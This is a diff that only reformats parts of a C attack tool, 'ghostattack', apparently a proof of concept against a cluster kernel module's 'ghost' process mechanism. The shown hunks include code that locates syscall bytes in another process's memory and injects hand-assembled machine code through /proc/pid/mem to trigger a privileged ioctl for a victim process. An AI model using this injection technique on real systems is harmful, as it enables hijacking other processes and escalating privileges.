@@ -46,12 +46,18 @@ static const char *ename(int e)
 	static char buf[16];
 
 	switch (e) {
-	case EPERM: return "EPERM";
-	case EACCES: return "EACCES";
-	case ESRCH: return "ESRCH";
-	case EIO: return "EIO";
-	case EBUSY: return "EBUSY";
-	case EINVAL: return "EINVAL";
+	case EPERM:
+		return "EPERM";
+	case EACCES:
+		return "EACCES";
+	case ESRCH:
+		return "ESRCH";
+	case EIO:
+		return "EIO";
+	case EBUSY:
+		return "EBUSY";
+	case EINVAL:
+		return "EINVAL";
 	}
 	snprintf(buf, sizeof(buf), "errno %d", e);
 	return buf;
@@ -71,7 +77,7 @@ static void child(int node, int out)
 		printf("move failed: %s\n", ename(errno));
 		exit(99);
 	}
-	getppid();	/* a call made by the ghost: its snippet is written */
+	getppid(); /* a call made by the ghost: its snippet is written */
 	printf("ready\n");
 	fflush(stdout);
 	sigwait(&usr1, &sig);
@@ -120,7 +126,8 @@ static void attack_mem(pid_t g, int victim)
 			continue;
 		if (pread(mem, b, sizeof(b), lo + 16) != sizeof(b))
 			continue;
-		if (b[0] == 0x0f && b[1] == 0x05 && b[2] == 0x48 && b[5] == 0xbf)
+		if (b[0] == 0x0f && b[1] == 0x05 && b[2] == 0x48 &&
+		    b[5] == 0xbf)
 			found = 1;
 	}
 	fclose(maps);
@@ -129,22 +136,25 @@ static void attack_mem(pid_t g, int victim)
 		close(mem);
 		return;
 	}
-	memcpy(&v, b + 6, 4);	/* the resume descriptor */
-	*p++ = 0xba;		/* mov edx,victim */
+	memcpy(&v, b + 6, 4); /* the resume descriptor */
+	*p++ = 0xba; /* mov edx,victim */
 	memcpy(p, &victim, 4);
 	p += 4;
-	*p++ = 0xbf;		/* mov edi,fd */
+	*p++ = 0xbf; /* mov edi,fd */
 	memcpy(p, &v, 4);
 	p += 4;
-	*p++ = 0xbe;		/* mov esi,CALLRET */
+	*p++ = 0xbe; /* mov esi,CALLRET */
 	v = BPROC_IOC_GHOST_CALLRET;
 	memcpy(p, &v, 4);
 	p += 4;
-	*p++ = 0xb8;		/* mov eax,__NR_ioctl */
+	*p++ = 0xb8; /* mov eax,__NR_ioctl */
 	v = SYS_ioctl;
 	memcpy(p, &v, 4);
 	p += 4;
-	*p++ = 0x0f; *p++ = 0x05; *p++ = 0x0f; *p++ = 0x0b;
+	*p++ = 0x0f;
+	*p++ = 0x05;
+	*p++ = 0x0f;
+	*p++ = 0x0b;
 	if (pwrite(mem, b, p - b, lo + 16) != p - b)
 		printf("mem write: %s\n", ename(errno));
 	else
@@ -213,7 +223,8 @@ int main(int argc, char **argv)
 	pid_t g;
 
 	if (argc < 3 || (!strcmp(argv[1], "mem") && argc != 4)) {
-		fprintf(stderr, "usage: ghostattack mem|ptrace|getfd NODE [VICTIM]\n");
+		fprintf(stderr,
+			"usage: ghostattack mem|ptrace|getfd NODE [VICTIM]\n");
 		return 2;
 	}
 	node = atoi(argv[2]);
@@ -246,6 +257,7 @@ int main(int argc, char **argv)
 	while (fgets(line, sizeof(line), in))
 		fputs(line, stdout);
 	waitpid(g, &st, 0);
-	printf("child exit %d\n", WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st));
+	printf("child exit %d\n",
+	       WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st));
 	return 0;
 }
